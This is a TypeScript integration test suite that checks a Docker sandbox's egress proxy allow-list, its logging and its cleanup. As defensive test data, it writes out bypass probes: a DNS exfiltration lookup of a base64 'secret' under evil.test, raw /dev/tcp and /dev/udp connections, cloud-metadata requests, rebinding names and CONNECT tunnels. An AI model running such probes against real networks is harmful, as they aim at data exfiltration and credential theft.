import { randomBytes } from "node:crypto"
import { once } from "node:events"
import { createServer } from "node:http"
import { type Sandbox, SandboxDriver, Sandboxes, type SandboxSession } from "@cordon/core"
import * as docker from "@cordon/driver-docker"
import { assert, describe } from "@effect/vitest"
import type Dockerode from "dockerode"
import { Duration, Effect, Layer, Schedule } from "effect"
import { freshSessionId } from "../support/sandbox.ts"
import { engine, image, needing, networkOf } from "./support.ts"
import { serving } from "./world.ts"

// The world that is allowed.
const world = "10.251.9.2"
const hosts = {
  "good.test": world,
  "files.good.test": world,
  "evil.test": world,
  // A name of the attacker's that is on the list and leads where it must not.
  "rebind.test": "192.168.77.1",
  "metadata.test": "169.254.169.254",
}

const withProxies = <A, E>(proxy: string, f: (session: SandboxSession) => Effect.Effect<A, E>) =>
  Effect.gen(function* () {
    yield* serving(world, "10.251.9.1")
    const sandboxes = yield* Sandboxes
    return yield* f(yield* sandboxes.session(freshSessionId()))
  }).pipe(
    Effect.provide(
      Sandboxes.layer({ image }).pipe(
        Layer.provide(docker.layer({ egress: { image: proxy, hosts } })),
      ),
    ),
    Effect.scoped,
  )

// What an agent's program does: speaks HTTP through the proxy that its environment names.
const fetching = (url: string, method = "GET") => {
  const { host } = new URL(url)
  return `exec 3<>"/dev/tcp/$(echo "$HTTP_PROXY" | sed 's,http://,,; s,:,/,')" && printf '${method} ${method === "GET" ? url : host} HTTP/1.0\\r\\nHost: ${host}\\r\\n\\r\\n' >&3 && timeout 20 cat <&3`
}
const bash = (script: string) => ["bash", "-c", script] as const

/** The proxy of a sandbox's network. */
const proxyOf = (sandbox: Sandbox) =>
  Effect.map(networkOf(sandbox), ({ Name }) => engine.getContainer(`${Name}.egress`))

/** Networks go in the background, their proxies with them. */
const isGone = (container: Dockerode.Container) =>
  Effect.tryPromise(() => container.inspect()).pipe(
    Effect.flip,
    Effect.retry(Schedule.max([Schedule.spaced("100 millis"), Schedule.recurs(100)])),
  )

describe("an allow-list on a real engine", () => {
  needing(
    "CORDON_TEST_PROXY_IMAGE",
    "lets a sandbox reach the listed destinations only, and logs each attempt",
    (proxy) =>
      withProxies(proxy, (session) =>
        Effect.gen(function* () {
          const sandbox = yield* session.create({
            name: "box",
            egress: {
              allow: ["good.test", "*.good.test", "rebind.test", "metadata.test"],
              allowAddresses: ["10.251.9.0/30"],
            },
          })
          const answer = (script: string) =>
            Effect.map(sandbox.exec(bash(script)), ({ stdout }) => stdout)
          assert.match(yield* answer(fetching("http://good.test/")), /served good\.test$/)
          assert.match(
            yield* answer(fetching("http://files.good.test/")),
            /served files\.good\.test$/,
          )
          // It leads to the same host: only the name tells.
          for (const url of [
            "http://evil.test/",
            "http://good.test.evil.test/",
            `http://${world}/`,
            "http://rebind.test/",
            "http://metadata.test/latest/meta-data/",
            "http://169.254.169.254/latest/meta-data/",
            "http://good.test:8080/",
          ]) {
            assert.match(yield* answer(fetching(url)), /^HTTP\/1\.1 403/, url)
          }
          assert.match(
            yield* answer(fetching("https://evil.test:443/", "CONNECT")),
            /^HTTP\/1\.1 403/,
          )
          // A tunnel to port 80 would carry anything at all.
          assert.match(
            yield* answer(fetching("https://good.test:80/", "CONNECT")),
            /^HTTP\/1\.1 403/,
          )
          const attempts = yield* sandbox.egress.attempts
          const told = attempts.map(({ host, allowed }) => `${host} ${allowed}`)
          assert.includeMembers(told, [
            "good.test true",
            "evil.test false",
            `${world} false`,
            "169.254.169.254 false",
          ])
        }),
      ),
    120_000,
  )

  needing(
    "CORDON_TEST_PROXY_IMAGE",
    "can't be bypassed by addresses, other protocols, name lookups or unset proxy variables",
    (proxy) =>
      withProxies(proxy, (session) =>
        Effect.gen(function* () {
          const egress = { allow: ["good.test"], allowAddresses: ["10.251.9.0/30"] }
          const sandbox = yield* session.create({ egress })
          const open = yield* session.create()
          const listener = yield* Effect.acquireRelease(
            Effect.promise(async () => {
              const server = createServer((_, response) => response.end("host"))
              server.listen(0, "0.0.0.0")
              await once(server, "listening")
              return server
            }),
            (server) => Effect.sync(() => server.close()),
          )
          const address = listener.address()
          const port = typeof address === "object" ? (address?.port ?? 0) : 0
          // The proxy has the last but one address of a /29, the gateway the first.
          const proxied = (yield* sandbox.run('printf %s "$HTTP_PROXY"')).stdout
          const gateway = proxied.replace(
            /^http:\/\/(.*)\.(\d+):3128$/,
            (_, net: string, place: string) => `${net}.${Number(place) - 5}`,
          )
          assert.match(gateway, /^10\.\d+\.\d+\.\d+$/)
          const reached = (box: typeof sandbox, script: string) =>
            Effect.map(
              box.exec(bash(`(${script}) >/dev/null 2>&1 && echo reached`)),
              ({ stdout }) => stdout.trim(),
            )
          // The world is there: who may go anywhere gets to it.
          assert.strictEqual(
            yield* reached(open, `timeout 5 bash -c 'echo > /dev/tcp/${world}/80'`),
            "reached",
          )
          for (const way of [
            `timeout 5 bash -c 'echo > /dev/tcp/${world}/80'`,
            `timeout 5 bash -c 'echo > /dev/tcp/${world}/22'`,
            "timeout 5 bash -c 'echo > /dev/tcp/169.254.169.254/80'",
            // The host itself, by its address on the sandbox's network.
            `timeout 5 bash -c 'echo > /dev/tcp/${gateway}/${port}'`,
            // Names are data: nobody may carry them out.
            "timeout 5 getent hosts c2VjcmV0.evil.test",
            // UDP is sent into the void; an answer would have to come back.
            `timeout 5 bash -c "exec 3<>/dev/udp/${world}/53; echo x >&3; read -t 3 -u 3 line"`,
          ]) {
            assert.strictEqual(yield* reached(sandbox, way), "", way)
          }
          // Not by the proxy either, as somebody else's: it serves its own network only.
          const { NetworkSettings } = yield* Effect.promise(() =>
            engine.getContainer(sandbox.info.instanceId).inspect(),
          )
          const [network = ""] = Object.keys(NetworkSettings.Networks)
          const outside = yield* Effect.promise(async () => {
            const found = await engine.getContainer(`${network}.egress`).inspect()
            return found.NetworkSettings.Networks["bridge"]?.IPAddress
          })
          assert.match(outside ?? "", /^\d/)
          assert.strictEqual(
            yield* reached(open, `timeout 5 bash -c 'echo > /dev/tcp/${outside}/3128'`),
            "",
          )
        }).pipe(Effect.scoped),
      ),
    180_000,
  )

  needing(
    "CORDON_TEST_PROXY_IMAGE",
    "lets nothing out when its proxy was stopped or removed, and makes it again at the next start",
    (proxy) =>
      withProxies(proxy, (session) =>
        Effect.gen(function* () {
          const ask = (made: Sandbox) =>
            Effect.map(made.exec(bash(fetching("http://evil.test/"))), ({ stdout }) => stdout)
          for (const how of ["stop", "kill", "remove"] as const) {
            const sandbox = yield* session.create({ egress: { allow: ["good.test"] } })
            const proxied = yield* proxyOf(sandbox)
            const disturb = Effect.promise(() =>
              how === "stop"
                ? proxied.stop({ t: 1 })
                : how === "kill"
                  ? proxied.kill()
                  : proxied.remove({ force: true }),
            )
            yield* disturb
            assert.strictEqual(yield* ask(sandbox), "", how)
            yield* sandbox.stop
            yield* sandbox.start
            assert.match(yield* ask(sandbox), /^HTTP\/1\.1 403/, how)
            yield* disturb
            yield* sandbox.remove
            yield* isGone(proxied)
          }
        }),
      ),
    180_000,
  )

  needing("CORDON_TEST_PROXY_IMAGE", "has a proxy swept when its network is gone", (proxy) =>
    Effect.gen(function* () {
      const driver = yield* SandboxDriver
      const name = `cordon-net-${randomBytes(12).toString("hex")}.egress`
      const left = yield* Effect.promise(() =>
        engine.createContainer({
          name,
          Image: proxy,
          Cmd: ["true"],
          Labels: { "dev.cordon.spec": "1" },
        }),
      )
      assert.notInclude(yield* driver.sweep(Duration.minutes(5)), name)
      // Engines tell whole seconds.
      const sweep = driver.sweep(Duration.seconds(1))
      yield* Effect.flatMap(sweep, (swept) =>
        swept.includes(name) ? Effect.void : Effect.fail("it is not old enough yet"),
      ).pipe(Effect.retry(Schedule.max([Schedule.spaced("500 millis"), Schedule.recurs(20)])))
      yield* isGone(left)
    }).pipe(Effect.provide(docker.layer())),
  )

  needing(
    "CORDON_TEST_PROXY_IMAGE",
    "is not part of a snapshot",
    (proxy) =>
      withProxies(proxy, (session) =>
        Effect.gen(function* () {
          const variables = "env | grep -i proxy | sort"
          const env = { KEPT: "of the sandbox", NO_PROXY: "own.test" }
          const sandbox = yield* session.create({ env, egress: { allow: ["good.test"] } })
          yield* sandbox.snapshot("proxied")
          yield* Effect.addFinalizer(() => Effect.ignore(session.snapshots.remove("proxied")))
          const open = yield* session.create({ snapshot: "proxied" })
          const variablesOf = (made: Sandbox, script: string) =>
            Effect.map(made.exec(script), ({ stdout }) => stdout)
          assert.strictEqual(yield* variablesOf(open, variables), "NO_PROXY=own.test\n")
          assert.strictEqual(yield* variablesOf(open, "echo $KEPT"), "of the sandbox\n")
          const listed = yield* session.create({
            snapshot: "proxied",
            egress: { allow: ["evil.test"] },
          })
          const found = yield* variablesOf(listed, "echo $HTTP_PROXY")
          assert.match(found, /^http:/)
          assert.notStrictEqual(found, yield* variablesOf(sandbox, "echo $HTTP_PROXY"))
          // Its label came along, and gives the fork nothing.
          yield* open.stop
          yield* open.start
          for (const made of [open, listed, sandbox]) yield* made.remove
        }).pipe(Effect.scoped),
      ),
    180_000,
  )

  needing(
    "CORDON_TEST_PROXY_IMAGE",
    "leaves no proxy when a creation is interrupted at any step",
    (proxy) =>
      withProxies(proxy, (session) =>
        Effect.gen(function* () {
          const proxies = Effect.promise(async () => {
            const containers = await engine.listContainers({
              all: true,
              filters: { name: ["\\.egress$"] },
            })
            return containers.length
          })
          const before = yield* proxies
          const egress = { allow: ["good.test"] }
          const sandbox = yield* session.create({ egress })
          assert.strictEqual(yield* proxies, before + 1)
          yield* sandbox.stop
          yield* sandbox.start
          assert.match((yield* sandbox.exec(bash(fetching("http://evil.test/")))).stdout, /403/)
          yield* sandbox.remove
          for (let delay = 0; delay <= 1500; delay += 300) {
            yield* Effect.uninterruptibleMask((restore) =>
              Effect.flatMap(restore(session.create({ egress })), (made) => made.remove),
            ).pipe(Effect.timeoutOption(delay))
          }
          assert.deepStrictEqual(yield* session.list, [])
          // Networks go in the background, their proxies with them.
          yield* Effect.gen(function* () {
            if ((yield* proxies) > before) return yield* Effect.fail("proxies are left")
          }).pipe(Effect.retry(Schedule.max([Schedule.spaced("100 millis"), Schedule.recurs(100)])))
        }),
      ),
    180_000,
  )
})
